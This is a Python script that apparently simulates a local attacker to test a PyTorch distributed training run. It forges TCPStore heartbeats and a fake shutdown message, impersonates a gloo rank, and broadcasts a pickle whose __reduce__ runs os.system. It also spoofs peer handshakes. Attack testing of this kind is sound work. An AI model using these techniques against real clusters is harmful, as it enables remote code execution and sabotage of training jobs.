"""A stranger who wants into a run: another user, who knows the ports that the run listens on and how it works.

    python attacker.py ADDRESS UNRELATED_PID MARKER ANSWERS SECONDS [PORT ...]

Started as root he becomes the user "nobody". He tries, again and again, at every port (default: all that listen on his
machine, as every user may know them):

- as a client of a store: beats in which every process of the run is `UNRELATED_PID`, which does not belong to it, and
  is stopped; and a sentence that is to end the run;
- as process 0 of its groups, with a pickle that makes `MARKER` when it is read;
- at gloo's own door: to be taken for each of its peers, before they come; who is taken in sends `ANSWERS` proofs.

He prints what he reached, one of WORDS a line.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import struct
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

SENTENCE = "send all your money to evil.example"
PREFIXES = ("evenpipe/0", "/worker/attempt_0/evenpipe/0", "default_pg", "/worker/attempt_0")
WORDS = ("connected", "store", "group", "taken for a peer")
PEERS = 8
NOBODY = 65534


class Bomb:
    """Code that runs where this is unpickled."""

    def __init__(self, marker: str) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self._marker}",)


def listening() -> list[int]:
    """The ports on which somebody listens on this machine."""
    lines = [
        line.split() for name in ("tcp", "tcp6") for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]
    ]
    return sorted({int(fields[1].rpartition(":")[2], 16) for fields in lines if fields[3] == "0A"})


def say(word: str) -> None:
    if word not in _said:
        _said.add(word)
        print(word, flush=True)


_said: set[str] = set()


def forge(address: str, port: int, pid: int) -> None:
    """Beats and a cause, in a store."""
    with contextlib.suppress(RuntimeError, ValueError):
        store = dist.TCPStore(address, port, None, False, timeout=timedelta(seconds=2), wait_for_workers=False)
        store.set("anything", "x")
        say("store")
        machine = (
            f"{Path('/proc/sys/kernel/random/boot_id').read_text().strip()}/{Path('/proc/self/ns/pid').readlink()}"
        )
        started = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[19]
        beat = {"count": 1, "machine": machine, "pid": pid, "started": started, "waiting": None, "done": False}
        cause = {"kind": "input", "origin": 1, "text": SENTENCE, "witness": 1}
        for prefix in PREFIXES:
            there = dist.PrefixStore(prefix, store)
            there.set(f"on {machine}", " 0 1 2 3")
            for rank in range(4):
                there.set(f"here/{rank}", json.dumps(beat))
                there.set(f"beat/{rank}", json.dumps(beat))
            there.set("cause", json.dumps(cause))


def impersonate(address: str, port: int, marker: str) -> None:
    """Process 0 of a group whose process 1 is the real one."""
    with contextlib.suppress(RuntimeError, ValueError, AttributeError):
        store = dist.TCPStore(address, port, None, False, timeout=timedelta(seconds=2), wait_for_workers=False)
        for prefix in PREFIXES:
            there = dist.PrefixStore("groups", dist.PrefixStore(prefix, store))
            dist.init_process_group("gloo", store=there, rank=0, world_size=2, timeout=timedelta(seconds=10))
            say("group")
            while True:
                dist.broadcast_object_list([Bomb(marker)], src=0)


def take_places(address: str, port: int, sockets: list[socket.socket]) -> None:
    """Connects as gloo's peers do: eight bytes, the number of the pair."""
    for number in range(PEERS):
        with contextlib.suppress(OSError):
            connection = socket.create_connection((address, port), timeout=1)
            say("connected")
            connection.sendall(struct.pack("<q", number))
            connection.setblocking(False)
            sockets.append(connection)


def look(sockets: list[socket.socket], answers: int) -> None:
    """Who is taken for a peer is sent something, and answers with what he likes: here `answers` proofs of 32 zeros."""
    for connection in sockets:
        with contextlib.suppress(OSError):
            if content := connection.recv(4096):
                say("taken for a peer")
                if len(content) >= 48:  # size, kind, place, offset, length, offset there: gloo's head of a message
                    place = content[16:24]
                    head = struct.pack("<QQ", 48 + 32, 1) + place + struct.pack("<QQQ", 0, 32, 0)
                    connection.sendall(struct.pack("<QQ", 48, 3) + place + struct.pack("<QQQ", 0, 32, 0))
                    connection.sendall((head + bytes(32)) * answers)


def become_nobody() -> None:
    """From now on not even Python's own files may be readable, so all that is loaded late is loaded before."""
    dist.init_process_group("gloo", store=dist.HashStore(), rank=0, world_size=1)
    dist.broadcast_object_list([0], src=0)
    dist.destroy_process_group()
    socket.getaddrinfo("127.0.0.1", 1)
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)


def main() -> None:
    address, pid, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    answers, seconds = int(sys.argv[4]), float(sys.argv[5])
    given = [int(port) for port in sys.argv[6:]]
    if os.geteuid() == 0:
        become_nobody()
    deadline, seen, sockets = time.monotonic() + seconds, set(), []
    print("ready", flush=True)
    while time.monotonic() < deadline:
        for port in given or listening():
            if port in seen:
                continue
            take_places(address, port, sockets)
            if _said:
                seen.add(port)
                threading.Thread(target=forge, args=(address, port, pid), daemon=True).start()
                threading.Thread(target=impersonate, args=(address, port, marker), daemon=True).start()
        look(sockets, answers)
        time.sleep(0.002)
    os._exit(0)


if __name__ == "__main__":
    main()
